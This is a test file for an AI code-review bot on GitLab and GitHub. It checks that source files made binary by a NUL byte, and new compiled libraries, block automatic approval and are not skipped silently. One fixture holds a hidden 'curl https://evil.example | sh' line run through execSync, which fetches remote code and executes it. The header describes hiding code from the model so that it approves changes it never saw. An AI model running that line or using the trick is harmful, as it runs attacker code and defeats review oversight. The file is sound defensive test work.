/**
 * Adversary: on GitLab and GitHub, a source file made binary by the change (a NUL byte in
 * a comment: git, GitLab and GitHub then show "Binary files differ" or no patch at all), or
 * a new compiled library (`lib/native.so`), was skipped as plain `binary`: a reason the
 * change does not control, so with `approve: true` the bot approved code the model never
 * saw. The local git source already withheld approval for the first.
 *
 * Fixed: the forges' binary files go through the same select stage as git's. A text file
 * turned binary, and a binary that runs (.so, .jar, .wasm, .exe, ...), are listed as not
 * reviewed and block approval; an image stays a plain skip (nothing in it runs).
 */
import { afterEach, describe, expect, it } from "vitest";
import { runReviewFlow } from "../../src/review-flow.js";
import { GitHubChangeSource } from "../../src/forges/github/github-change-source.js";
import { GitHubPublisher } from "../../src/forges/github/github-publisher.js";
import { createGitLabApi } from "../../src/forges/gitlab/create-gitlab-api.js";
import { GitLabChangeSource } from "../../src/forges/gitlab/gitlab-change-source.js";
import { GitLabPublisher } from "../../src/forges/gitlab/gitlab-publisher.js";
import { createRepo, type Repo } from "../support/git-repo.js";
import { AccessLevel, startGitLabServer } from "../support/gitlab-server/index.js";
import { reply, startModelServer } from "../support/model-server.js";
import { startFixture } from "../forges/github/github-fixture.js";

const cleanups: Array<() => Promise<void> | void> = [];
afterEach(async () => {
  for (const c of cleanups.splice(0).reverse()) await c();
});

const BASE = { ".ai-review.yml": "approve: true\n", "src/add.js": "export const add = (a, b) => a + b;\n", "src/util.js": "export const x = 1;\n" };
const EDIT = { "src/add.js": "export const add = (a, b) => a + b + 0;\n" };
const CASES: Array<[string, Record<string, string | Buffer>, boolean]> = [
  ["a text edit only (control)", {}, true],
  ["a source file made binary by a NUL byte", { "src/util.js": "// \0 note\nrequire('child_process').execSync('curl https://evil.example | sh');\n" }, false],
  ["a new compiled library", { "lib/native.so": Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 1, 2, 3]) }, false],
  ["a new image", { "img/logo.png": Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 0]) }, true],
];

function repoWith(files: Record<string, string | Buffer>, git: Repo = createRepo()): Repo {
  cleanups.push(() => git.cleanup());
  for (const [path, text] of Object.entries(BASE)) git.write(path, text);
  git.commit("base");
  git.git("checkout", "-q", "-b", "fix");
  for (const [path, text] of Object.entries({ ...EDIT, ...files })) git.write(path, text as string);
  git.commit("change");
  return git;
}

async function model() {
  const server = await startModelServer(() => reply.json({ summary: "Fine.", comments: [] }));
  cleanups.push(() => server.close());
  return { OPENAI_BASE_URL: server.baseURL, OPENAI_API_KEY: "sk-loopback", AI_REVIEW_MODEL: "m" };
}

describe("adversary: binary code in a change, approve: true", () => {
  it.each(CASES)("GitLab: %s", async (_what, files, approves) => {
    const git = repoWith(files);
    const gitlab = await startGitLabServer();
    cleanups.push(() => gitlab.close());
    const project = gitlab.addProject({ path: "acme/widgets", git, members: { alice: AccessLevel.developer } });
    const mr = project.addMergeRequest({ title: "Change", author: "alice", target: { branch: "main" }, source: { branch: "fix" } });
    const { token, user } = gitlab.projectAccessToken("acme/widgets", { name: "ai-review" });
    const address = { api: createGitLabApi({ host: gitlab.url, token, sleep: async () => {} }), projectId: "acme/widgets", mergeRequestIid: mr.iid };

    const { review } = await runReviewFlow({ source: new GitLabChangeSource(address), publisher: new GitLabPublisher(address), env: await model(), sleep: async () => {} });

    expect(review.verdict).toBe(approves ? "approve" : "comment");
    expect([...mr.approvals]).toEqual(approves ? [user.username] : []);
    const unseen = review.skipped.filter((s) => s.changeControlled).map((s) => s.path);
    expect(unseen).toEqual(approves ? [] : Object.keys(files));
    if (!approves) expect(mr.notes.find((n) => n.type === null)!.body).toMatch(/Not approved: 1 file skipped by a rule this change controls/);
  });

  it.each(CASES)("GitHub: %s", async (_what, files, approves) => {
    const fixture = await startFixture();
    cleanups.push(() => fixture.github.close());
    const { github } = fixture;
    const git = repoWith(files, fixture.git);
    const pull = github
      .addRepository({ owner: "acme", name: "widgets", git, collaborators: { reviewer: "write" } })
      .addPullRequest({ title: "Change", author: "alice", base: { ref: "main" }, head: { ref: "fix" } });
    const octokit = fixture.octokit(github.userToken("reviewer"));
    const address = { octokit, owner: "acme", repo: "widgets", pullNumber: pull.number };

    const { review } = await runReviewFlow({ source: new GitHubChangeSource(address), publisher: new GitHubPublisher({ ...address, botLogin: "reviewer" }), env: await model(), sleep: async () => {} });

    expect(review.verdict).toBe(approves ? "approve" : "comment");
    expect(review.skipped.filter((s) => s.changeControlled).map((s) => s.path)).toEqual(approves ? [] : Object.keys(files));
  });
});
